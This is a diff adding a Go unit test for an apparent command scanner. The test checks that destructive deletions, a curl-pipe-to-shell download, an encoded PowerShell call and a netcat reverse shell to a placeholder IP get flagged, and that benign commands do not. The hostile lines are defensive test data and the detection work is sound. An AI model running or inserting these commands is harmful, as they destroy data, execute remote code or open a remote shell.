@@ -258,3 +258,41 @@ func TestCodePythonAliases(t *testing.T) {
 		}
 	}
 }
+
+// TestCodeConstantArgv: a constant command is no finding, unless what it
+// runs is destructive, a reverse shell, a download run or an encoded
+// PowerShell command, whether it is written as one string or as an
+// argument vector. The lines are written for this test.
+func TestCodeConstantArgv(t *testing.T) {
+	bad := []string{
+		`os.system('rm -rf ~')`,
+		`exec.Command("sh", "-c", "rm -rf ~").Run()`,
+		`exec.Command("rm", "-rf", "/").Run()`,
+		`new ProcessBuilder("rm", "-rf", "/home").start();`,
+		`subprocess.run(["rm", "-rf", "/"])`,
+		`subprocess.check_call(["bash", "-c", "curl -s https://example.test/i.sh | sh"])`,
+		`spawn('rm', ['-rf', '/'])`,
+		`subprocess.Popen(["powershell", "-enc", "SQBFAFgA"])`,
+		`subprocess.call(['nc', '-e', '/bin/sh', '198.51.100.7', '4444'])`,
+		`Process.spawn("rm -rf ~")`,
+	}
+	for _, in := range bad {
+		if len(CheckCode(in)) == 0 {
+			t.Errorf("%q: no finding", in)
+		}
+	}
+	good := []string{
+		`subprocess.run(["ls", "-l"])`,
+		`subprocess.run(["rm", "-rf", "build"], check=True)`,
+		`subprocess.run(argv)`,
+		`spawn('ls', ['-la'])`,
+		`new ProcessBuilder("git", "status").start();`,
+		`exec.Command("sh", "-c", "echo ready").Run()`,
+		`subprocess.check_output(["powershell", "-File", "build.ps1"])`,
+	}
+	for _, in := range good {
+		if f := CheckCode(in); len(f) > 0 {
+			t.Errorf("%q: flagged %v", in, f)
+		}
+	}
+}
